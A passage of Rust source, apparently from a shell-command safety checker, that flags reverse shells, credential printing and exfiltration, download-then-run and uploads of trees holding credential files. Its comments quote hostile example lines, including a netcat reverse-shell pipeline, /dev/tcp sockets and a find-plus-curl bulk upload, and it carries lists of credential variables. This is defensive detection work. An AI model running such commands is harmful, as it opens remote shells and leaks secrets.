    pub(crate) fn judge_shown(&mut self, out: &Producer, before: usize, scope: &Scope) {
        // Programs known to print what they are given or read: an unknown program's output is
        // only presumed to carry its input on the way to a sink (`echo "$PAT" | gh auth login
        // --with-token` prints a status line, not the token).
        const SHOWN_BY: &[&str] = &[
            "echo", "printf", "print", "printenv", "env", "cat", "head", "tail", "sort", "uniq",
            "grep", "egrep", "fgrep", "rg", "ag", "ack", "ugrep", "sed", "awk", "gawk", "mawk",
            "cut", "tr", "rev", "base64", "base32", "basenc", "xxd", "od", "hexdump", "jq", "yq",
            "column", "fold", "paste", "nl", "tac", "strings", "tee", "iconv",
        ];
        // Interpreters whose code printed a credential variable (`python3 -c
        // 'print(os.environ["GITHUB_TOKEN"])'`, `node -e 'console.log(process.env.X)'`): the
        // code reader marks only what a print call writes to stdout (`Finding::Printed`) as the
        // program's output, so their output is the secret as surely as `printenv`'s.
        const INTERPRETERS: &[&str] = &[
            "python", "python2", "python3", "pypy", "pypy3", "node", "nodejs", "deno", "bun",
            "ruby", "perl", "php",
        ];
        if self.captured > 0 || scope.remote || self.files.exec_sink.is_some() {
            return;
        }
        let Producer::Secret(
            source
            @ (FlowSource::CredentialVariable { .. } | FlowSource::EnvironmentMatches { .. }),
        ) = out
        else {
            return;
        };
        let Some(argv) = self
            .commands
            .get(before..)
            .and_then(<[ExecutedCommand]>::last)
            .map(|c| c.argv.clone())
            .filter(|argv| {
                let Some((program, rest)) = argv.split_first() else {
                    return false;
                };
                let name = program.rsplit('/').next().unwrap_or(program);
                // `echo "$DATABASE_URL" | grep -q postgres`: a status, a count, names only.
                let words: Vec<Word> = rest.iter().map(|a| Word::lit(a.as_str())).collect();
                let args = crate::taxonomy::Args::parse_by(name, &words, |w| w.text.as_str());
                // `python3.12`, `/usr/bin/python3.11`: the interpreter without its version.
                let unversioned = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
                let interpreter = INTERPRETERS.contains(&name)
                    || (unversioned.len() < name.len() && INTERPRETERS.contains(&unversioned));
                interpreter
                    || (SHOWN_BY.contains(&name)
                        && !crate::resolve::prints_no_content(name, &args, &words))
            })
        else {
            return;
        };
        let mut v = ids::CRED_SHOW_SECRET_VARIABLE.verdict();
        v.reason = format!("{}: {source}", v.reason);
        self.record_text(argv, scope, v);
    }

    pub(crate) fn record_flow(
        &mut self,
        argv: Vec<String>,
        scope: &Scope,
        rule: RuleRef,
        flow: Flow,
    ) {
        self.commands.push(ExecutedCommand {
            argv,
            via: scope.via.clone(),
            verdict: verdict(rule, flow),
            effects: Vec::new(),
            cwd: scope.cwd_path(),
            stdin: None,
            writes: None,
            output_discarded: false,
        });
    }

    /// Remembers what a command writes that later parts of the line must not trust: files
    /// from the network (downloads, remote copies, clones) and files holding secrets (copies
    /// and archives of credential files, secret scanners' reports).
    fn note_outputs(&mut self, name: &str, words: &[Word], scope: &Scope) {
        if scope.remote {
            return;
        }
        for (o, tree) in network_outputs(name, words) {
            if let Some(p) = place(&o, scope, self.ctx) {
                self.files.downloaded.push((p, tree));
            }
        }
        let secret = if SECRET_SCANNERS.contains(&name) {
            scanner_report(words).map(|r| {
                (
                    r,
                    FlowSource::SecretScanner {
                        tool: name.to_owned(),
                    },
                )
            })
        } else {
            copy_outputs(name, words)
                .or_else(|| option_output(name, words))
                .and_then(|(out, inputs)| {
                    inputs
                        .iter()
                        .find_map(|i| read_source(i, &scope.cwd, self.ctx, &self.files))
                        .map(|s| (out, s))
                })
        };
        if let Some((out, source)) = secret
            && let Some(p) = place(out, scope, self.ctx)
        {
            self.files.secret.push((p, source));
        }
        if database_dump(name, words) == Some(false)
            && let Some(out) = dump_file(name, words)
            && let Some(p) = place(out, scope, self.ctx)
        {
            let shown: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
            self.files.secret.push((
                p,
                FlowSource::DatabaseDump {
                    command: format!("{name} {}", shown.join(" ")).trim().to_owned(),
                },
            ));
        }
        // A capture file holds the traffic it recorded; a bundle or archive written to a file
        // holds the repository (`git bundle create /tmp/b --all`, `git archive -o x.tar
        // HEAD`): uploading either is what piping it would be.
        let written = if CAPTURE_TOOLS.contains(&name) {
            match capture_output(name, words) {
                Capture::File(f) if !f.is_empty() => Some(f),
                _ => None,
            }
            .map(|f| {
                (
                    f,
                    FlowSource::CapturedTraffic {
                        command: shown(name, words),
                    },
                )
            })
        } else if name == "git" {
            git_repository_file(words).map(|f| {
                (
                    f,
                    FlowSource::FoundFiles {
                        root: "the git repository".to_owned(),
                    },
                )
            })
        } else {
            None
        };
        if let Some((out, source)) = written
            && let Some(p) = place(out, scope, self.ctx)
        {
            self.files.secret.push((p, source));
        }
        if name == "adb"
            && let Some((out, source)) = device_pull_output(words)
            && let Some(p) = place(&out, scope, self.ctx)
        {
            self.files.secret.push((p, source));
        }
        for (out, input) in in_place_outputs(name, words)
            .into_iter()
            .chain(piece_family(name, words))
        {
            if let Some(source) = read_source(input, &scope.cwd, self.ctx, &self.files)
                && let Some(p) = place(&out, scope, self.ctx)
            {
                self.files.secret.push((p, source));
            }
        }
    }

    /// Running a file downloaded earlier in the line: as the command itself (`./f`,
    /// `/tmp/p`), or as the script of a shell, interpreter or `source`.
    pub(crate) fn check_downloaded_run(&mut self, name: &str, argv: &[Word], scope: &Scope) {
        if self.files.downloaded.is_empty() || scope.remote {
            return;
        }
        let Some(first) = argv.first() else { return };
        let mut candidates: Vec<&Word> = Vec::new();
        if first.text.contains('/') {
            candidates.push(first);
        }
        if is_executor(name) || matches!(name, "source" | "." | "exec") {
            let rest = argv.get(1..).unwrap_or(&[]);
            let code = rest.iter().any(|w| {
                w.exact
                    && w.text.starts_with('-')
                    && !w.text.starts_with("--")
                    && w.text
                        .chars()
                        .skip(1)
                        .any(|c| matches!(c, 'c' | 'e' | 'r' | 'm'))
            });
            if !code && let Some(script) = rest.iter().find(|w| !w.text.starts_with('-')) {
                candidates.push(script);
            }
        }
        for c in candidates {
            if !c.exact {
                continue;
            }
            if let Some(p) = place(&c.text, scope, self.ctx)
                && self.files.is_downloaded(&p)
            {
                let flow = Flow {
                    source: FlowSource::DownloadedFile {
                        path: c.text.clone(),
                    },
                    sink: FlowSink::Execution {
                        program: first.text.clone(),
                    },
                };
                let argv = argv.iter().map(|w| w.text.clone()).collect();
                self.record_flow(argv, scope, ids::RCE_DOWNLOAD_THEN_RUN, flow);
                return;
            }
        }
    }

    /// After a statement with `/dev/tcp|udp` redirections ran (its commands are
    /// `self.commands[before..]`): a shell or interpreter on a socket is a reverse shell; a
    /// bare `exec 3<>/dev/tcp/…` opens one for later commands; secret output written to a
    /// socket is exfiltration.
    pub(crate) fn judge_sockets(
        &mut self,
        before: usize,
        endpoints: &[String],
        output: &Producer,
        scope: &Scope,
    ) {
        let Some(endpoint) = endpoints.first() else {
            return;
        };
        let ran: Vec<&ExecutedCommand> =
            self.commands.get(before..).unwrap_or(&[]).iter().collect();
        let shell = ran.iter().find_map(|c| {
            let name = crate::resolve::command_name(c.argv.first()?);
            is_executor(&name).then(|| c.argv.join(" "))
        });
        let source = FlowSource::Network {
            endpoint: endpoint.clone(),
        };
        if let Some(program) = shell {
            let flow = Flow {
                source,
                sink: FlowSink::Execution { program },
            };
            self.record_flow(
                vec![format!("/dev/tcp/{endpoint}")],
                scope,
                ids::RCE_REVERSE_SHELL,
                flow,
            );
            return;
        }
        if let Producer::Secret(s) = output {
            let flow = Flow {
                source: s.clone(),
                sink: FlowSink::Network {
                    tool: format!("/dev/tcp/{endpoint}"),
                    channel: Channel::Socket,
                },
            };
            self.record_flow(
                vec![format!("/dev/tcp/{endpoint}")],
                scope,
                ids::CRED_EXFILTRATE,
                flow,
            );
            return;
        }
        let bare_exec = ran
            .iter()
            .any(|c| c.argv.len() == 1 && c.argv.first().is_some_and(|a| a == "exec"));
        // A descriptor to a loopback port (`exec 3<>/dev/tcp/127.0.0.1/8000` for a raw health
        // check) reaches only this machine: remembered (a shell bound to it later is still a
        // reverse shell) but not itself asked.
        let host = endpoint.split('/').next().unwrap_or(endpoint);
        if bare_exec && crate::contained::is_loopback_host(host) {
            self.files.socket_fd = Some(endpoint.clone());
        } else if bare_exec {
            self.files.socket_fd = Some(endpoint.clone());
            let mut v = ids::RCE_SOCKET_FD.verdict();
            v.reason = format!("{}: /dev/tcp/{endpoint}", v.reason);
            self.commands.push(ExecutedCommand {
                argv: vec![format!("/dev/tcp/{endpoint}")],
                via: scope.via.clone(),
                verdict: v,
                effects: Vec::new(),
                cwd: scope.cwd_path(),
                stdin: None,
                writes: None,
                output_discarded: false,
            });
        }
    }

    /// A pipeline in which a shell reading commands from its stdin shares the pipe with a raw
    /// socket tool (`cat f | sh -i 2>&1 | nc host 4242 > f`, `telnet h 1 | sh | telnet h 2`):
    /// the shell's commands and output travel over the network. `stages` are the ranges of
    /// `self.commands` each stage recorded.
    pub(crate) fn judge_pipeline(&mut self, stages: &[(usize, usize)], scope: &Scope) {
        let commands = |(a, b): (usize, usize)| self.commands.get(a..b).unwrap_or(&[]);
        let shell = stages.iter().find_map(|r| {
            commands(*r)
                .iter()
                .filter(|c| c.via.len() == scope.via.len())
                .find_map(reads_commands_from_stdin)
        });
        let socket = stages.iter().find_map(|r| {
            commands(*r).iter().find_map(|c| {
                let name = crate::resolve::command_name(c.argv.first()?);
                is_socket_tool(&name, &c.argv).then(|| c.argv.join(" "))
            })
        });
        // An authenticated read whose output a later stage sends to another host
        // (`net.relay_private_data`): the first such read, the first such sender after it.
        let own = |c: &&ExecutedCommand| c.via.len() == scope.via.len();
        let relay = stages
            .iter()
            .enumerate()
            .take(stages.len().saturating_sub(1))
            .find_map(|(k, r)| {
                // Not `ssh host CMD`: what a remote command prints is judged by that command
                // (`ssh prod uptime | curl -d @- …` sends an uptime, ordinary).
                let (source, host) = commands(*r)
                    .iter()
                    .filter(own)
                    .find_map(|c| relay_source(&c.argv))?;
                let (argv, sink) = stages.iter().skip(k + 1).find_map(|r| {
                    commands(*r)
                        .iter()
                        .filter(own)
                        .find_map(|c| relay_sink(&c.argv, &host))
                })?;
                Some((argv, Flow { source, sink }))
            });
        if let (Some(program), Some(endpoint)) = (shell, socket) {
            let flow = Flow {
                source: FlowSource::Network { endpoint },
                sink: FlowSink::Execution { program },
            };
            self.record_flow(vec!["|".to_owned()], scope, ids::RCE_REVERSE_SHELL, flow);
        }
        if let Some((argv, flow)) = relay {
            self.record_flow(argv, scope, ids::NET_RELAY_PRIVATE_DATA, flow);
        }
    }

    /// Secret data on the stdin of a network client (any command: `ssh`, wrappers, plain);
    /// a shell reading commands after `exec N<>/dev/tcp/…` opened a socket (`sh <&N >&N`);
    /// SQL or database commands fed to a database shell (see `crate::argdanger`).
    pub(crate) fn check_stdin_flow(
        &mut self,
        name: &str,
        argv: &[Word],
        stdin: &Producer,
        scope: &Scope,
    ) {
        if let Some(endpoint) = self.files.socket_fd.clone() {
            let texts: Vec<String> = argv.iter().map(|w| w.text.clone()).collect();
            if let Some(program) = stdin_executor(&texts) {
                let flow = Flow {
                    source: FlowSource::Network { endpoint },
                    sink: FlowSink::Execution { program },
                };
                self.record_flow(texts, scope, ids::RCE_REVERSE_SHELL, flow);
            }
        }
        self.judge_stdin_commands(name, argv, stdin, scope);
        if let Producer::Text { text, .. } = stdin
            && is_transfer_shell(name)
            && !scope.remote
            && let Some(source) = transfer_script_source(text, &scope.cwd, self.ctx, &self.files)
        {
            let flow = Flow {
                source,
                sink: FlowSink::Network {
                    tool: name.to_owned(),
                    channel: Channel::Upload,
                },
            };
            let argv = argv.iter().map(|w| w.text.clone()).collect();
            self.record_flow(argv, scope, ids::CRED_EXFILTRATE, flow);
        }
        if let Producer::Secret(source) = stdin
            && let Some(sink) = stdin_sink(name, argv.get(1..).unwrap_or(&[]))
        {
            let flow = Flow {
                source: source.clone(),
                sink,
            };
            let argv = argv.iter().map(|w| w.text.clone()).collect();
            self.record_flow(argv, scope, ids::CRED_EXFILTRATE, flow);
        }
        if let Producer::Secret(FlowSource::SensitiveFile { path }) = stdin
            && stores_stdin_as_secret(name, argv.get(1..).unwrap_or(&[]))
            && self
                .ctx
                .home
                .as_deref()
                .is_some_and(|h| std::path::Path::new(path).starts_with(h))
            && !std::path::Path::new(path).starts_with(&self.ctx.cwd)
        {
            // `gh secret set DEPLOY_KEY < ~/.ssh/id_ed25519`: storing a value is what a
            // forge's secret store is for (not a flow out), but the value is the user's own
            // private key or cloud credential, copied where every workflow of the repository
            // can use it — the move of a credential `cred.read_secret_file` asks about.
            let mut v = ids::CRED_READ_SECRET_FILE.verdict();
            v.reason = format!(
                "{}: the personal credential `{path}` stored as a repository or deployment secret",
                v.reason
            );
            let argv = argv.iter().map(|w| w.text.clone()).collect();
            self.record_text(argv, scope, v);
        }
    }

    /// The flows of interpreter code (`via` is `python -c` and the like): an endless loop of
    /// forks; code fetched and evaluated; secret data passed to a network call, or handled by
    /// a snippet that also reaches the network; a socket next to a shell (reverse shell).
    /// `before` is where the snippet's own nested commands start in `self.commands`.
    pub(crate) fn code_flow_verdict(
        &self,
        via: &str,
        findings: &[Finding],
        effects: &[Effect],
        before: usize,
        scope: &Scope,
    ) -> Option<Verdict> {
        if findings.contains(&Finding::ForkLoop) {
            return Some(ids::RCE_FORK_BOMB.verdict());
        }
        let program = via.trim_end_matches(" -c").to_owned();
        if let Some(call) = findings.iter().find_map(|f| match f {
            Finding::FetchEval { call } => Some(call.clone()),
            _ => None,
        }) {
            let flow = Flow {
                source: FlowSource::Network { endpoint: call },
                sink: FlowSink::Execution { program },
            };
            return Some(verdict(ids::RCE_DOWNLOAD_TO_SHELL, flow));
        }
        if let Some((source, call)) = findings.iter().find_map(|f| match f {
            Finding::Exfil { source, call } => Some((source.clone(), call.clone())),
            _ => None,
        }) {
            let sink = FlowSink::Network {
                tool: call,
                channel: Channel::Code,
            };
            return Some(verdict(ids::CRED_EXFILTRATE, Flow { source, sink }));
        }
        let network = effects.iter().find(|e| e.op == EffectOp::Network)?;
        let endpoint = network
            .path
            .clone()
            .unwrap_or_else(|| format!("a socket opened by {via}"));
        let nested = self.commands.get(before..).unwrap_or(&[]);
        let shell = nested
            .iter()
            .find_map(reads_commands_from_stdin)
            .or_else(|| {
                effects
                    .iter()
                    .any(|e| e.op == EffectOp::Spawn && e.path.is_none())
                    .then(|| "a command built at run time".to_owned())
            });
        if let Some(program) = shell {
            let flow = Flow {
                source: FlowSource::Network { endpoint },
                sink: FlowSink::Execution { program },
            };
            return Some(verdict(ids::RCE_REVERSE_SHELL, flow));
        }
        let source = findings
            .iter()
            .find_map(|f| match f {
                Finding::Source(s) => Some(s.clone()),
                _ => None,
            })
            .or_else(|| {
                effects
                    .iter()
                    .filter(|e| e.op == EffectOp::Read)
                    .filter_map(|e| e.path.as_deref())
                    .find_map(|p| file_source(p, &scope.cwd, self.ctx, &self.files))
            })?;
        let sink = FlowSink::Network {
            tool: endpoint,
            channel: Channel::Code,
        };
        Some(verdict(ids::CRED_EXFILTRATE, Flow { source, sink }))
    }

    /// The exfiltration and reverse-shell verdicts of one plain command's arguments. Also
    /// remembers the files it writes from the network or from secrets, for later parts.
    pub(crate) fn flow_verdict(
        &mut self,
        name: &str,
        words: &[Word],
        scope: &Scope,
    ) -> Option<Verdict> {
        if let Some(flow) = exec_on_socket(name, words) {
            return Some(verdict(ids::RCE_REVERSE_SHELL, flow));
        }
        self.note_outputs(name, words, scope);
        if scope.remote {
            return None;
        }
        argument_flow(name, words, &scope.cwd, self.ctx, &self.files)
            .map(|flow| verdict(ids::CRED_EXFILTRATE, flow))
            .or_else(|| {
                found_files_upload(name, words, &scope.cwd, self.ctx)
                    .map(|f| verdict(ids::NET_UPLOAD_FOUND_FILES, f))
            })
            .or_else(|| {
                tree_upload(name, words, &scope.cwd, self.ctx, &self.files)
                    .map(|f| verdict(ids::NET_UPLOAD_TREE_WITH_CREDENTIALS, f))
            })
    }
}

/// Most directory entries read, in all, to look for credential files in an uploaded tree.
const MAX_TREE_ENTRIES: usize = 2048;

/// How deep below an uploaded directory credential files are looked for.
const MAX_TREE_DEPTH: usize = 4;

/// `huggingface-cli upload org/data .`, `aws s3 sync . s3://b`, `rsync -a ./ host:/srv/`,
/// `scp -r . host:`, `gsutil -m cp -r . gs://b`, `rclone sync . remote:b`: a copy of a whole
/// local directory to the network takes every file in it, so a credential file directly in
/// that directory (the workspace's `.env`, a `.npmrc` with a token) leaves with the tree. The
/// tool's own literal `--exclude`/`--include` patterns are honoured (a file they keep out is
/// not sent); filters read from files or regexes (`--exclude-from`, `--filter`, gsutil `-x`)
/// are not evaluated and the tree is not judged. The walk is bounded ([`MAX_TREE_DEPTH`]
/// levels, [`MAX_TREE_ENTRIES`] entries, the source's own entries first; past the bound the
/// rest is not read — the cost of a hook call must not grow with the project). Asked, not denied: shipping a project with its
/// configuration to a server is sometimes meant.
fn tree_upload(
    name: &str,
    words: &[Word],
    cwd: &Cwd,
    ctx: &Context,
    files: &LineState,
) -> Option<Flow> {
    if !matches!(
        name,
        "huggingface-cli" | "hf" | "aws" | "gsutil" | "scp" | "rsync" | "rclone"
    ) || words.iter().any(|w| !w.exact)
    {
        return None;
    }
    let texts: Vec<&str> = words.iter().map(|w| w.text.as_str()).collect();
    // Options whose value is the next word, per tool; the patterns of `--exclude`/`--include`.
    let valued: &[&str] = match name {
        "huggingface-cli" | "hf" => &[
            "--repo-type",
            "--revision",
            "--include",
            "--exclude",
            "--delete",
            "--commit-message",
            "--commit-description",
            "--token",
            "--every",
            "--num-workers",
        ],
        "aws" => &[
            "--exclude",
            "--include",
            "--profile",
            "--region",
            "--endpoint-url",
            "--acl",
            "--storage-class",
            "--sse",
            "--sse-kms-key-id",
            "--cache-control",
            "--content-type",
            "--metadata",
            "--grants",
            "--expires",
            "--source-region",
            "--page-size",
            "--output",
        ],
        "rsync" => &[
            "--exclude",
            "--include",
            "-e",
            "--rsh",
            "--chmod",
            "--chown",
            "--port",
            "--timeout",
            "-B",
            "--block-size",
        ],
        "scp" => &["-P", "-i", "-F", "-o", "-J", "-l", "-c", "-S"],
        "rclone" => &[
            "--exclude",
            "--include",
            "--config",
            "--transfers",
            "--checkers",
            "--bwlimit",
            "--max-age",
            "--min-age",
            "--max-size",
            "--min-size",
        ],
        _ => &["-x", "-h", "-o"],
    };
    let unjudged: &[&str] = &[
        "--exclude-from",
        "--include-from",
        "--filter",
        "-f",
        "--files-from",
        "--filter-from",
        "-x",
    ];
    // The line's filters in order: (`true` for include, pattern).
    let (mut filters, mut positionals): (Vec<(bool, &str)>, Vec<&str>) = (Vec::new(), Vec::new());
    let mut recursive = matches!(name, "huggingface-cli" | "hf" | "rclone");
    let mut i = 0;
    while let Some(&t) = texts.get(i) {
        i += 1;
        let (opt, attached) = t.split_once('=').map_or((t, None), |(o, v)| (o, Some(v)));
        if unjudged.contains(&opt) && !(name == "rsync" && opt == "-f") {
            return None;
        }
        if t.starts_with('-') && t.len() > 1 && valued.contains(&opt) {
            let value = if let Some(v) = attached {
                v
            } else {
                i += 1;
                texts.get(i - 1).copied().unwrap_or("")
            };
            match opt {
                "--exclude" => filters.push((false, value)),
                "--include" => filters.push((true, value)),
                _ => {}
            }
            continue;
        }
        if t.starts_with("--") {
            recursive |= matches!(opt, "--recursive" | "--archive");
            continue;
        }
        if t.starts_with('-') && t.len() > 1 {
            recursive |= t.contains(['r', 'R']) || (name == "rsync" && t.contains('a'));
            continue;
        }
        positionals.push(t);
    }
    let remote = |p: &str| p.contains("://") || (p.contains(':') && !p.starts_with(['/', '.']));
    let sources: Vec<&str> = match (name, positionals.as_slice()) {
        ("huggingface-cli" | "hf", ["upload", _repo]) => vec!["."],
        ("huggingface-cli" | "hf", ["upload", _repo, local, ..]) => vec![*local],
        ("aws", ["s3", "sync", src, dst]) => {
            recursive = true;
            if remote(src) || !dst.starts_with("s3://") {
                return None;
            }
            vec![*src]
        }
        ("aws", ["s3", "cp", src, dst]) if dst.starts_with("s3://") && !remote(src) => vec![*src],
        ("gsutil", [verb, srcs @ .., dst]) if matches!(*verb, "cp" | "rsync") && remote(dst) => {
            srcs.iter().copied().filter(|s| !remote(s)).collect()
        }
        ("scp" | "rsync", [srcs @ .., dst]) if remote(dst) => {
            srcs.iter().copied().filter(|s| !remote(s)).collect()
        }
        ("rclone", [verb, src, dst])
            if matches!(*verb, "copy" | "sync" | "move") && remote(dst) && !remote(src) =>
        {
            vec![*src]
        }
        _ => return None,
    };
    if !recursive {
        return None;
    }
    let matches = |pat: &str, entry: &str| {
        let pat = pat.trim_start_matches("./").trim_end_matches('/');
        crate::taxonomy::glob_match(pat.as_bytes(), entry.as_bytes())
    };
    // Whether the tool sends the file a symlink points to (aws, gsutil, scp and the Hugging
    // Face client follow links unless told not to; rsync and rclone copy or skip the link
    // itself unless `-L`/`--copy-links`): a link to `~/.aws/credentials` inside the uploaded
    // directory then sends the credentials.
    let short_has = |letter: char| {
        texts
            .iter()
            .any(|t| t.starts_with('-') && !t.starts_with("--") && t.contains(letter))
    };
    let follows_links = match name {
        "aws" => !texts.contains(&"--no-follow-symlinks"),
        "gsutil" => !short_has('e'),
        "rsync" | "rclone" => texts.contains(&"--copy-links") || short_has('L'),
        _ => true,
    };
    // rsync and rclone match a pattern without `/` against a name at any level; aws and the
    // Hugging Face client against the path below the source (their `*` crosses `/`).
    let by_name = matches!(name, "rsync" | "rclone" | "scp");
    let sent = |entry_name: &str, rel: &str| {
        let hit = |f: &&(bool, &str)| {
            matches(f.1, rel) || (by_name && !f.1.contains('/') && matches(f.1, entry_name))
        };
        // Each tool's own filter order: rsync and rclone take the first rule that matches,
        // aws the last; huggingface-cli keeps what some include matches (any, without
        // includes) and no exclude does. A directory is only ever excluded here (an include
        // naming files below it does not keep a directory out).
        match name {
            "rsync" | "rclone" | "scp" => filters.iter().find(hit).is_none_or(|f| f.0),
            "aws" => filters.iter().rev().find(hit).is_none_or(|f| f.0),
            _ => {
                let includes: Vec<&(bool, &str)> = filters.iter().filter(|f| f.0).collect();
                (includes.is_empty() || includes.iter().any(hit))
                    && !filters.iter().any(|f| !f.0 && hit(&f))
            }
        }
    };
    for src in sources {
        let Some(dir) = place_in(src, cwd, ctx) else {
            continue;
        };
        // A bounded walk (depth, entries): a credential file in a subdirectory (`api/.env`)
        // leaves with the tree as one at the top does. Dependency, VCS and build trees are
        // not looked into: they hold installed packages, not the project's configuration.
        let mut seen = 0usize;
        let mut stack: Vec<(std::path::PathBuf, String, usize)> = vec![(dir, String::new(), 0)];
        while let Some((d, prefix, depth)) = stack.pop() {
            let Ok(entries) = std::fs::read_dir(&d) else {
                continue;
            };
            for entry in entries.filter_map(Result::ok) {
                seen += 1;
                if seen > MAX_TREE_ENTRIES {
                    return None;
                }
                let entry_name = entry.file_name().to_string_lossy().into_owned();
                let rel = format!("{prefix}{entry_name}");
                if entry.file_type().is_ok_and(|t| t.is_symlink()) {
                    // A link is judged by where it leads, when the tool follows it; linked
                    // directories are not walked (the bound holds), only judged themselves.
                    if follows_links
                        && sent(&entry_name, &rel)
                        && let Ok(real) = std::fs::canonicalize(entry.path())
                        && let Some(source @ FlowSource::SensitiveFile { .. }) =
                            file_source(&real.to_string_lossy(), cwd, ctx, files)
                    {
                        return Some(Flow {
                            source,
                            sink: FlowSink::Network {
                                tool: name.to_owned(),
                                channel: Channel::Upload,
                            },
                        });
                    }
                    continue;
                }
                let is_dir = entry.file_type().is_ok_and(|t| t.is_dir());
                if is_dir {
                    let skipped = matches!(
                        entry_name.as_str(),
                        ".git" | "node_modules" | ".venv" | "venv" | "__pycache__" | "target"
                    );
                    let excluded = filters.iter().any(|f| {
                        !f.0 && (matches(f.1, &rel) || (by_name && matches(f.1, &entry_name)))
                    });
                    if depth < MAX_TREE_DEPTH && !skipped && !excluded {
                        stack.push((entry.path(), format!("{rel}/"), depth + 1));
                    }
                    continue;
                }
                if !sent(&entry_name, &rel) {
                    continue;
                }
                let child = entry.path().to_string_lossy().into_owned();
                if let Some(source @ FlowSource::SensitiveFile { .. }) =
                    file_source(&child, cwd, ctx, files)
                {
                    return Some(Flow {
                        source,
                        sink: FlowSink::Network {
                            tool: name.to_owned(),
                            channel: Channel::Upload,
                        },
                    });
                }
            }
        }
    }
    None
}

/// A network client uploading the files a search selects (a word of
/// [`crate::walk::WordShape::Descendants`]: `find`'s `{}`, or a child shell's `$1` bound to
/// it): `find . -name '*.py' -exec curl -T {} URL \;` sends the tree, one file at a time.
/// Secret roots and names are `cred.exfiltrate` already ([`argument_flow`]); this is the
/// bulk upload of ordinary files, which a single named upload (`curl -T README.md`) is not.
/// Only upload slots count: an `@file` reference, the value of an upload option, or a
/// copy tool's source operand — not an output file (`curl -o {}`) or a URL.
fn found_files_upload(name: &str, words: &[Word], cwd: &Cwd, ctx: &Context) -> Option<Flow> {
    const UPLOAD_OPTIONS: &[&str] = &[
        "-T",
        "--upload-file",
        "--post-file",
        "--body-file",
        "--data-binary",
        "--data",
        "-d",
        "--data-raw",
        "--data-urlencode",
        "-F",
        "--form",
        "--json",
    ];
    // Runs for every command: the name decides for most before the argv is parsed.
    if !maybe_network_client(name) {
        return None;
    }
    let args = Args::parse_by(name, words, |w| w.text.as_str());
    if !is_network_client(name, &args.positionals) {
        return None;
    }
    let copier = matches!(
        name,
        "scp" | "rsync" | "rclone" | "sftp" | "gsutil" | "azcopy" | "s3cmd" | "aws" | "lftp"
    );
    let mut previous: Option<&str> = None;
    for w in words {
        let t = w.text.as_str();
        // The found files, or the workspace's catch-all glob an unfiltered search of the
        // workspace root stands for (any other glob names the files it uploads).
        let found = w.exact
            && (w.shape == crate::walk::WordShape::Descendants
                || (w.shape == crate::walk::WordShape::Glob
                    && targets::judge_delete(
                        file_refs(t).next().unwrap_or(t),
                        true,
                        targets::Shape::Glob,
                        true,
                        cwd,
                        ctx,
                    ) == Some(ids::FS_DELETE_WORKSPACE_GLOB)));
        let slot = previous.is_some_and(|p| UPLOAD_OPTIONS.contains(&p))
            || t.starts_with('@')
            || t.contains("=@")
            || t.split_once('=')
                .is_some_and(|(o, _)| UPLOAD_OPTIONS.contains(&o))
            || (copier && !t.starts_with('-') && !t.contains(':'));
        if found && slot {
            let root = file_refs(t).next().unwrap_or(t);
            return Some(Flow {
                source: FlowSource::FoundFiles {
                    root: root.to_owned(),
                },
                sink: FlowSink::Network {
                    tool: name.to_owned(),
                    channel: Channel::Upload,
                },
            });
        }
        previous = (w.exact && t.starts_with('-')).then_some(t);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn credential_variables_are_recognised_by_their_words() {
        for n in [
            "GITHUB_TOKEN",
            "GH_TOKEN",
            "AWS_SECRET_ACCESS_KEY",
            "AWS_SESSION_TOKEN",
            "OPENAI_API_KEY",
            "PGPASSWORD",
            "DB_PASS",
            "SLACK_WEBHOOK_URL",
            "npm_token",
            "STRIPE_SECRET_KEY",
            "NPM_AUTH_TOKEN",
        ] {
            assert!(is_credential_variable(n), "{n}");
        }
        for n in [
            "DATABASE_URL",
            "REDIS_URL",
            "MONGODB_URI",
            "SENTRY_DSN",
            "AZURE_STORAGE_CONNECTION_STRING",
        ] {
            assert!(is_credential_variable(n), "{n}");
        }
        for n in [
            "PATH",
            "HOME",
            "TOKENIZERS_PARALLELISM",
            "SSH_AUTH_SOCK",
            "CACHE_KEY",
            "PWD",
            "GIT_ASKPASS",
            "QUERY",
            "KEYBOARD",
            "API_URL",
            "BASE_URL",
            "DATABASE_NAME",
        ] {
            assert!(!is_credential_variable(n), "{n}");
        }
    }

    fn words(s: &[&str]) -> Vec<Word> {
        s.iter().map(|w| Word::lit(*w)).collect()
    }

    #[test]
    fn download_outputs_follow_each_clients_options() {
        assert_eq!(
            download_outputs("curl", &words(&["-o", "/tmp/x.sh", "https://h/i.sh"])),
            ["/tmp/x.sh"]
        );
        assert_eq!(
            download_outputs("curl", &words(&["-sLO", "https://h/a/install.sh"])),
            ["install.sh"]
        );
        assert_eq!(
            download_outputs("curl", &words(&["-fsSLo", "t", "https://h/t"])),
            ["t"]
        );
        assert_eq!(
            download_outputs("wget", &words(&["https://h/a.py"])),
            ["a.py"]
        );
        assert_eq!(
            download_outputs("wget", &words(&["-qO-", "https://h/a.py"])),
            Vec::<String>::new()
        );
        assert_eq!(
            download_outputs("wget", &words(&["-P", "/tmp", "https://h/p"])),
            ["/tmp/p"]
        );
        assert_eq!(
            download_outputs("curl", &words(&["https://h/p"])),
            Vec::<String>::new()
        );
    }
}
